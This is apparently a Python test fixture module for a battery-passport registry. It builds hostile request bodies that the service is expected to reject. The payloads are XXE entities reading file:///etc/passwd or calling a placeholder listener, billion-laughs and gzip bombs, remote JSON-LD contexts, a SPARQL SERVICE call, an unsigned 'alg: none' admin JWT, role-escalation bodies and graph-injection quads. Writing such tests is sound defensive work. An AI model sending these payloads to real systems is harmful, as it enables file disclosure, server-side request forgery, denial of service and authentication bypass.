"""Hostile request bodies, built once: each is bytes with placeholders the corpus fills in at run time.

Placeholders: `@@LISTENER@@` (the local listener that must never be contacted), `@@OTHER@@` (another
operator's passport IRI), `@@OWN@@` (the caller's own passport IRI), `@@PREFIX@@` (the registry's
passport IRI prefix). A passport that carries something hostile is always a *new* battery: were the
hostile part accepted, the answer would be 201, not a 409 that hides it.
"""

from __future__ import annotations

import copy
import gzip
import json
from pathlib import Path
from typing import Any

import pyoxigraph as ox

from passport_registry.access import AccessGroup
from passport_registry.rdf import parse
from passport_registry.store import INDEX_GRAPHS, LIVE_GRAPHS, META_GRAPH

EXAMPLES = Path(__file__).parents[2] / "examples" / "passports"
#: The example the caller (operator DE2847193650) owns in the corpus registry, and one it never stored.
OWN_EXAMPLE = "ev-nmc-car-pack.json"
LISTENER = "@@LISTENER@@"
BPR = "https://w3id.org/passport-registry/battery#"


def example(name: str = OWN_EXAMPLE) -> dict[str, Any]:
    document: dict[str, Any] = json.loads((EXAMPLES / name).read_bytes())
    return document


def fresh(**changes: Any) -> dict[str, Any]:
    """The caller's example as a battery the registry has not seen (new product and passport ids)."""
    document = copy.deepcopy(example())
    document["productIdentifier"] = "(01)04012345000016(21)HOSTILE-0001"
    document["batteryPassportIdentifier"] = "urn:uuid:0badc0de-0000-4000-8000-000000000001"
    document.update(changes)
    return document


def dumps(document: Any) -> bytes:
    return json.dumps(document).encode()


def with_number(document: dict[str, Any], key: str, number: str) -> bytes:
    """`document` with `key` set to the bare JSON number text `number` (any length)."""
    return dumps({**document, key: "@@N@@"}).replace(b'"@@N@@"', number.encode())


def nested(document: dict[str, Any], **changes: Any) -> dict[str, Any]:
    """`document` with `changes` merged into its manufacturerInformation (a nested node)."""
    out = copy.deepcopy(document)
    out["manufacturerInformation"].update(changes)
    return out


def deep_json(depth: int) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


def fresh_quads(graph: ox.NamedNode | None) -> list[ox.Quad]:
    """A fresh passport's quads, all in `graph` (None: the default graph)."""
    quads = parse(dumps(fresh()), "application/ld+json", "http://registry.test/")
    if graph is None:
        return quads
    return [ox.Quad(q.subject, q.predicate, q.object, graph) for q in quads]


def nquads(quads: list[ox.Quad]) -> bytes:
    out = ox.serialize(quads, format=ox.RdfFormat.N_QUADS)
    assert out is not None
    return out


def trig(quads: list[ox.Quad]) -> bytes:
    out = ox.serialize(quads, format=ox.RdfFormat.TRIG)
    assert out is not None
    return out


def nquads_in_graph_named(placeholder: str) -> bytes:
    """A fresh passport in N-Quads, in a graph whose IRI is `placeholder` (filled in at run time)."""
    text = nquads(fresh_quads(ox.NamedNode("urn:x:graph"))).decode()
    return text.replace("<urn:x:graph>", f"<{placeholder}>").encode()


def turtle_of(document: dict[str, Any]) -> bytes:
    out = ox.serialize(
        [q.triple for q in parse(dumps(document), "application/ld+json", "http://registry.test/")],
        format=ox.RdfFormat.TURTLE,
    )
    assert out is not None
    return out


def gzip_bomb(size: int = 20_000_000) -> bytes:
    """`size` bytes of JSON whitespace compressed to about a thousandth of that."""
    return gzip.compress(b"{" + b" " * size + b"}", compresslevel=9)


RDF_XML_HEAD = '<?xml version="1.0"?>\n'
RDF_OPEN = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:b="' + BPR + '">'


def rdf_xml(doctype: str, body: str) -> bytes:
    return (RDF_XML_HEAD + doctype + RDF_OPEN + body + "</rdf:RDF>").encode()


XXE_REMOTE = rdf_xml(
    f'<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "{LISTENER}/xxe">]>',
    '<b:BatteryPassport rdf:about="urn:x"><b:batteryMass>&x;</b:batteryMass></b:BatteryPassport>',
)
XXE_FILE = rdf_xml(
    '<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<b:BatteryPassport rdf:about="urn:x"><b:batteryMass>&x;</b:batteryMass></b:BatteryPassport>',
)
XXE_PARAMETER = rdf_xml(f'<!DOCTYPE rdf:RDF [<!ENTITY % p SYSTEM "{LISTENER}/dtd"> %p;]>', "")
BILLION_LAUGHS = rdf_xml(
    '<!DOCTYPE rdf:RDF [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    + "]>",
    '<b:BatteryPassport rdf:about="urn:x"><b:batteryMass>&l9;</b:batteryMass></b:BatteryPassport>',
)
XINCLUDE = rdf_xml(
    "",
    f'<b:BatteryPassport rdf:about="urn:x" xmlns:xi="http://www.w3.org/2001/XInclude">'
    f'<xi:include href="{LISTENER}/xi" parse="text"/></b:BatteryPassport>',
)

#: Registry graph names a body must never write into.
META = META_GRAPH.value
PUBLIC = LIVE_GRAPHS[AccessGroup.PUBLIC].value
INDEX = INDEX_GRAPHS[AccessGroup.PUBLIC].value


def sparql_nested_subqueries(n: int) -> bytes:
    return ("SELECT * WHERE " + "{ SELECT * WHERE " * n + "{}" + " }" * n).encode()


def sparql_nested_parentheses(n: int) -> bytes:
    return ("SELECT * WHERE { FILTER(" + "(" * n + "1" + ")" * n + ") }").encode()


def sparql_nested_groups(n: int) -> bytes:
    return ("SELECT * WHERE " + "{" * n + "}" * n).encode()


def sparql_describe(n: int) -> bytes:
    return ("DESCRIBE " + " ".join(f"<urn:x:{i}>" for i in range(n))).encode()


def sparql_huge(size: int) -> bytes:
    values = " ".join(f'"{i}"' for i in range(size // 8))
    return f"SELECT * WHERE {{ VALUES ?x {{ {values} }} }}".encode()


def _without_context(document: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in document.items() if k != "@context"}


# -- named bodies of the corpus table (tests/hostile/cases.py) ------------------------------------------

CONTEXT = example()["@context"]
BPR_PREDECESSOR = BPR + "predecessor"
OTHER = "@@OTHER@@"

NOT_UTF8 = dumps(fresh()).replace(b"Nordcell", b"Nord\xffcell")
UTF16 = dumps(fresh()).decode().encode("utf-16")
BIG_NUMBER = with_number(fresh(), "batteryMass", "9" * 5000)
BIG_NUMBER_PATCH = b'{"batteryMass": ' + b"9" * 5000 + b"}"
INFINITE = with_number(fresh(), "batteryMass", "1e999999")
LONE_SURROGATE = dumps(nested(fresh(), name="@@S@@")).replace(b"@@S@@", b"\\ud800")
STRING_FOR_OBJECT = dumps(fresh(manufacturerInformation="ACME"))
URL_FOR_OBJECT = dumps(fresh(separateCollectionSymbol="https://maker.example/symbol.svg"))
TWO_PASSPORTS = dumps({"@context": CONTEXT, "@graph": [_without_context(fresh())] * 2})
CONTROL = dumps(nested(fresh(), name="Nordcell\u0001Energy"))
ANOTHER_OPERATOR = dumps(
    fresh(operatorInformation={**example()["operatorInformation"], "identifier": "DE1907735512"})
)

REMOTE_CONTEXT = dumps({**fresh(), "@context": f"{LISTENER}/context.jsonld"})
REMOTE_CONTEXT_IN_ARRAY = dumps({**fresh(), "@context": [CONTEXT, f"{LISTENER}/more.jsonld"]})
IMPORT = dumps({**fresh(), "@context": {"@import": f"{LISTENER}/import.jsonld"}})
SCOPED_REMOTE_CONTEXT = dumps(
    {**fresh(), "@context": [CONTEXT, {"x": {"@id": "urn:x", "@context": f"{LISTENER}/scoped.jsonld"}}]}
)
REMOTE_CONTEXT_IN_NODE = dumps(nested(fresh(), **{"@context": f"{LISTENER}/node.jsonld"}))
REMOTE_CONTEXT_PATCH = dumps({"@context": f"{LISTENER}/patch.jsonld"})
HUGE_CONTEXT = dumps({"@context": {f"t{i}": f"urn:t:{i}" for i in range(100_000)}, "t1": "x"})
HUGE_GRAPH = dumps({"@context": CONTEXT, "@graph": [{"@id": f"urn:n:{i}"} for i in range(200_000)]})
#: Triples whose subject is another passport; with a property no shape checks, so that only the rule
#: "a passport's triples are about its own nodes" can refuse them.
UNCHECKED = "https://example.org/unchecked"
REVERSE = dumps({**fresh(), "@reverse": {UNCHECKED: {"@id": OTHER}}})
PROTECTED = dumps({**fresh(), "@context": [{"@protected": True, "x": "urn:a"}, {"x": "urn:b"}]})

NODE_IN_OTHER = dumps(nested(fresh(), **{"@id": OTHER + "#n-1"}))
ABOUT_OTHER = dumps(
    {"@context": CONTEXT, "@graph": [_without_context(fresh()), {"@id": OTHER, UNCHECKED: "x"}]}
)
NODE_IN_OTHER_HISTORY = dumps(nested(fresh(), **{"@id": OTHER + "/versions/1#public"}))
NAMES_OTHER = dumps({**example(), "@id": OTHER})
NODE_NAMED_META = dumps(nested(fresh(), **{"@id": META_GRAPH.value}))
COPY_OF_OTHER = dumps({**example("industrial-lead-acid-traction.json"), "@id": OTHER})

DEEP_BLANK_NODES = b"<urn:a> <urn:p> " + b"[ <urn:p> " * 100_000 + b"1" + b" ]" * 100_000 + b" ."
DEEP_COLLECTIONS = b"<urn:a> <urn:p> " + b"( " * 100_000 + b"1" + b" )" * 100_000 + b" ."
MANY_PREFIXES = b"".join(b"@prefix p%d: <urn:p:%d#> .\n" % (i, i) for i in range(100_000))
TURTLE_CONTROL = turtle_of(fresh()).replace(b'"Nordcell Energy AB"', b'"Nordcell\\u0001"')
XML_CONTROL = rdf_xml("", '<b:BatteryPassport rdf:about="urn:x"><b:n>&#1;</b:n></b:BatteryPassport>')

INTO_META = nquads(fresh_quads(ox.NamedNode(META_GRAPH.value)))
INTO_PUBLIC = nquads(fresh_quads(ox.NamedNode(PUBLIC)))
INTO_INDEX = trig(fresh_quads(ox.NamedNode(INDEX)))
INTO_OTHER = nquads_in_graph_named(OTHER)
INTO_OTHER_HISTORY = nquads_in_graph_named(OTHER + "/versions/1#public")
EXTRA_META_QUAD = nquads(
    [
        *fresh_quads(None),
        ox.Quad(ox.NamedNode("urn:x"), ox.NamedNode(BPR_PREDECESSOR), ox.NamedNode("urn:y"), META_GRAPH),
    ]
)

GZIP_BOMB = gzip_bomb()
HUGE = b"{" + b" " * (6 * 1024 * 1024) + b"}"  # past the default 5 MiB
HUGE_FORM = b"username=" + b"a" * 100_000
HUGE_USER = b'{"email": "' + b"a" * 100_000 + b'@x.example"}'
LOGIN = b"username=a%40b.example&password=xxxxxxxxxxxx"
HUGE_PASSWORD = b"username=operator%40registry.example&password=" + b"x" * 20_000
NUL_LOGIN = b"username=operator%00%40registry.example&password=x"
#: A JWT claiming to be anyone, signed with "none".
ALG_NONE_TOKEN = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9."
NEW_ADMIN = dumps(
    {"email": "evil@x.example", "display_name": "E", "password": "long enough password", "roles": ["admin"]}
)
UNKNOWN_ROLE = dumps(
    {"email": "r@x.example", "display_name": "R", "password": "long enough password", "roles": ["root"]}
)
CONTROL_EMAIL = dumps({"email": "a\u0001@x.example", "display_name": "A", "password": "long enough password"})
HIDDEN_SERVICE = (
    "PREFIX ex: <http://x/> SELECT * WHERE { { ?s ex:a\\#b ?o } UNION { SERVICE <"
    + LISTENER
    + "/q> { ?x ?y ?z } } }"
).encode()
CONTROL_PATCH = b'{"manufacturerInformation": {"name": "x\\u0001"}}'
FROM_META = f"SELECT * FROM NAMED <{META}> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}".encode()
NEW_EMAIL = b'{"email": "e@x.example"}'
#: RDF 1.2: a reifier (blank, so "its own node") whose triple term speaks about another passport.
TRIPLE_TERM = turtle_of(fresh()) + (
    b"\n_:r <http://www.w3.org/1999/02/22-rdf-syntax-ns#reifies> <<( <@@OTHER@@> <"
    + BPR_PREDECESSOR.encode()
    + b"> <urn:x:forged> )>> .\n"
)
TRIPLE_TERM_ON_ROOT = turtle_of(fresh()).replace(
    b"<https://w3id.org/passport-registry/battery#BatteryPassport> ;",
    b"<https://w3id.org/passport-registry/battery#BatteryPassport> ; <"
    + BPR_PREDECESSOR.encode()
    + b"> <<( <@@OTHER@@> <urn:p> <urn:o> )>> ;",
    1,
)
#: A passport offered as the successor of another while its battery status is still "original".
ORIGINAL_SUCCESSOR = dumps(fresh())
